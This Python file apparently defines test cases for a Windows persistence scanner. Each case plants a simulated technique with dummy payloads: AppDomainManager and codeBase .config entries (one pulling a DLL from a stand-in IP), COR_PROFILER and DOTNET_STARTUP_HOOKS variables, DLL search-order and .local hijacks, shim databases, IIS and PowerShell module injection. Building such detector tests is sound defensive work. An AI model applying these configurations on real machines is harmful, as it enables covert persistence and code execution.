"""A trusted program loads what nobody trusts: by the configuration beside it, by variables of the runtime. (No signed program of the
disk imports a library, so none beside one would be loaded.)"""
from windows_disk import *

change = Changes()
START, SERVICE = 'WIN-PERSIST-001', 'WIN-PERSIST-003'
FOLDER = r'C:\Program Files\App'
RUN = rf'{CURRENT}\Run'


def beside(name, why, *files, place, texts=()):
    """A signed program of the autostarts with files of nobody beside it."""
    def make(d):
        d.honest(rf'{FOLDER}\app.exe')
        for file in files:
            d.foreign(rf'{FOLDER}\{file}')
        for file, text in texts:
            d.put(rf'{FOLDER}\{file}', text)
        d.software(RUN, 'App', SZ, rf'"{FOLDER}\app.exe"')
    change.row(name, why, START, place, make)


CONFIGURATION = ('<configuration><runtime><appDomainManagerAssembly value="evil, Version=0.0.0.0"/><appDomainManagerType value="Evil.Manager"/></runtime>'
                 '</configuration>')
beside('manager-of-the-domain', 'A .config names an assembly that the runtime of .NET loads before the program.', 'evil.dll', place='app.exe.config',
       texts=[('app.exe.config', CONFIGURATION)])
beside('code-base-of-the-configuration', 'A .config says where an assembly comes from.', place='app.exe.config', texts=[('app.exe.config', (
    '<configuration><runtime><assemblyBinding xmlns="urn:schemas-microsoft-com:asm.v1"><dependentAssembly><assemblyIdentity name="Lib"/>'
    '<codeBase version="1.0.0.0" href="http://203.0.113.7/lib.dll"/></dependentAssembly></assemblyBinding></runtime></configuration>'))])


@change(SERVICE, 'svc.exe.config')
def manager_of_a_services_domain(d):
    """The same .config for a service."""
    d.honest(rf'{FOLDER}\svc.exe')
    d.foreign(rf'{FOLDER}\evil.dll')
    d.put(rf'{FOLDER}\svc.exe.config', CONFIGURATION)
    d.service('App', rf'"{FOLDER}\svc.exe"')


def variables(name, why, place, more=None, **values):
    def make(d):
        d.foreign(r'C:\ProgramData\x\x.dll')
        for entry, text in values.items():
            d.system(rf'{SESSION}\Environment', entry, SZ, text)
        if more:
            more(d)
    change.row(name, why, START, place, make)


variables('profiler-of-every-program', 'The runtime of .NET loads the profiler that these variables name.', 'COR_PROFILER', COR_ENABLE_PROFILING='1',
          COR_PROFILER='{DEADBEEF-1111-2222-3333-444455556666}', COR_PROFILER_PATH=r'C:\ProgramData\x\x.dll')
variables('manager-of-every-domain', 'The manager of domains may be named by variables as well; its assembly stands where the runtime looks for all of them.',
          'APPDOMAIN_MANAGER', APPDOMAIN_MANAGER_ASM='evil, Version=1.0.0.0, Culture=neutral, PublicKeyToken=0123456789abcdef',
          APPDOMAIN_MANAGER_TYPE='Evil.Manager', more=lambda d: d.foreign(r'C:\Windows\Microsoft.NET\assembly\GAC_MSIL\evil\v4.0_1.0.0.0__0123456789abcdef\evil.dll'))
variables('hooks-of-newer-programs', '.NET Core runs the start-up hooks before the program.', 'DOTNET_STARTUP_HOOKS', DOTNET_STARTUP_HOOKS=r'C:\ProgramData\x\x.dll')


@change(START, 'COR_PROFILER_PATH')
def profiler_of_a_service(d):
    """A service has variables of its own."""
    d.honest(rf'{FOLDER}\svc.exe')
    d.service('App', rf'"{FOLDER}\svc.exe"')
    d.system(rf'{SERVICES}\App', 'Environment', MULTI, ['COR_ENABLE_PROFILING=1', r'COR_PROFILER_PATH=' + d.foreign(r'C:\ProgramData\x\x.dll')])

# --- files that a part of Windows carries out because of where they lie ---


def lying(name, why, path, data=b'x', more=None):
    change.row(name, why, START, path.rpartition('\\')[2], lambda d: (d.put(path, data), more(d) if more else None))


lying('database-of-fixes', 'A database in AppPatch\\Custom leads programs to other libraries.', r'Windows\AppPatch\Custom\{5B0F0000-0000-4000-8000-0000000000C1}.sdb')
lying('state-that-is-pending', 'The Local Configuration Manager sets the state of Pending.mof at the next start.', r'Windows\System32\Configuration\Pending.mof', 'instance of MSFT_ScriptResource {};')
lying('package-of-settings', 'Setup applies the package at the first start.', r'ProgramData\Microsoft\Provisioning\x.ppkg')


def named(name, why, hive, key, entry, kind=SZ, file=r'C:\ProgramData\x\x.dll', more=None):
    def make(d):
        d.foreign(file)
        d.value(hive, key, entry, kind, [file] if kind == MULTI else file)
        if more:
            more(d)
    change.row(name, why, START, 'x.dll', make)


named('library-of-a-display', 'Every program with a window loads it.', 'SYSTEM', rf'{CONTROL}\Class\{{4d36e968-e325-11ce-bfc1-08002be10318}}\0000', 'UserModeDriverName', MULTI)
named('co-installer-of-a-device', 'Setup of devices calls it on other hardware.', 'SYSTEM', rf'{CONTROL}\Class\{{4d36e968-e325-11ce-bfc1-08002be10318}}\0000', 'CoInstallers32', MULTI)
named('driver-of-users', 'WUDFHost.exe loads it for the device.', 'SOFTWARE', rf'{NT}\WUDF\Services\x', 'ImagePath')
named('agent-of-snmp', 'The service of SNMP loads what the keys of its agents name.', 'SOFTWARE', r'Company\Agent', 'Pathname',
      more=lambda d: d.system(rf'{SERVICES}\SNMP\Parameters\ExtensionAgents', '1', SZ, r'SOFTWARE\Company\Agent'))
named('library-of-all-programs-of-32-bits', 'WOW64 loads what the key of the processor names.', 'SOFTWARE', r'Microsoft\Wow64\arm', '')


@change(SERVICE, 'x.jar')
def java_of_a_service(d):
    """procrun (prunsrv.exe, signed) reads its Java and classes from a key of its own."""
    d.honest(rf'{FOLDER}\svc.exe')
    d.put(r'ProgramData\x\x.jar', b'PK\3\4')
    d.service('App', rf'"{FOLDER}\svc.exe" //RS//App')
    d.software(r'Wow6432Node\Apache Software Foundation\Procrun 2.0\App\Parameters\Java', 'Classpath', SZ, r'C:\ProgramData\x\x.jar')

# --- beside programs of Windows, and beside programs that do not import the library themselves ---
POWERSHELL = r'C:\Windows\System32\WindowsPowerShell\v1.0'


@change(START, 'powershell.exe.config')
def manager_of_powershells_domain(d):
    """A .config beside powershell.exe: every script of the system runs behind its assembly."""
    d.honest(rf'{POWERSHELL}\powershell.exe')
    d.put(rf'{POWERSHELL}\powershell.exe.config', CONFIGURATION)


@change(START, 'machine.config')
def manager_of_the_machines_domains(d):
    """machine.config is read before that of any program."""
    d.put(r'Windows\Microsoft.NET\Framework64\v4.0.30319\Config\machine.config', CONFIGURATION)


@change(START, 'services.exe.local')
def redirection_of_a_program_of_windows(d):
    """A folder of the program's name and .local comes first for its libraries."""
    d.windows('services.exe')
    d.foreign(r'C:\Windows\System32\services.exe.local\x\comctl32.dll')


beside('redirection-of-a-program', 'A folder of the program\'s name and .local comes first for its libraries.', r'app.exe.local\version.dll', place='app.exe.local')
beside('manifest-beside-a-program', 'A manifest may say from where a library is loaded.', place='app.exe.manifest',
       texts=[('app.exe.manifest', r'<assembly manifestVersion="1.0"><file name="version.dll" loadFrom="C:\ProgramData\x\x.dll"/></assembly>')])
beside('library-of-windows-beside-a-program', 'What the libraries of a program load by that name is found beside it first.', 'version.dll', place='version.dll')
for name in ('wtsapi32.dll', 'WerFault.exe', 'sppsvc.exe', 'WUDFHost.exe'):
    change.row(f'replaced-{name.lower().replace(".", "-")}', 'Windows starts or loads it by itself, whatever the registry says.', START, name,
               lambda d, name=name: d.foreign(rf'C:\Windows\System32\{name}'))
change.row('library-that-windows-looks-for', 'Programs of Windows look for libraries that it does not have, more than are known.', START, 'nobody.dll',
           lambda d: d.foreign(r'C:\Windows\System32\nobody.dll'))
change.row('module-among-those-of-powershell', 'PowerShell finds the commands of a module there by their names.', START, 'Tidy.psm1',
           lambda d: d.put(r'Windows\System32\WindowsPowerShell\v1.0\Modules\Tidy\Tidy.psm1', 'function Get-Disk { calc }'))
change.row('module-of-the-web-server', 'Its worker processes load the modules of applicationHost.config.', START, 'x.dll', lambda d: d.put(
    r'Windows\System32\inetsrv\config\applicationHost.config',
    f'<configuration><system.webServer><globalModules><add name="X" image="{d.foreign(chr(67) + r":/ProgramData/x/x.dll".replace("/", chr(92)))}"/></globalModules></system.webServer></configuration>'))
